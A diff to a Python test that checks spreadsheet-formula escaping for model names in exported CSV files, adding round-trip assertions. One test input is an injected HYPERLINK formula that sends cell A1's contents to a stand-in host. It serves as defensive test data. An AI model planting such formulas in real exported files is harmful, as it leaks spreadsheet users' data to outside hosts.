@@ -152,5 +152,7 @@ def test_a_model_name_that_is_a_formula_is_quoted_and_still_matches_on_resume():
     mid = '=HYPERLINK("http://x.example/?"&A1,"ok")-0123abcd'
     cell = spreadsheet_safe(mid)
     assert cell == "'" + mid and unquoted(cell) == mid
-    assert unquoted("'plain") == "'plain"  # a name that really starts with a quote
-    assert models_in([{"model_id": cell, "error": ""}]) == {mid}
+    for name in ("'plain", "'=x", "''", "ok", "-x"):  # exact round trips (third re-check)
+        assert unquoted(spreadsheet_safe(name)) == name
+    assert models_in([{"model_id": cell, "error": ""}], from_csv=True) == {mid}
+    assert models_in([{"model_id": "'=x", "error": ""}]) == {"'=x"}  # JSON lines: as is
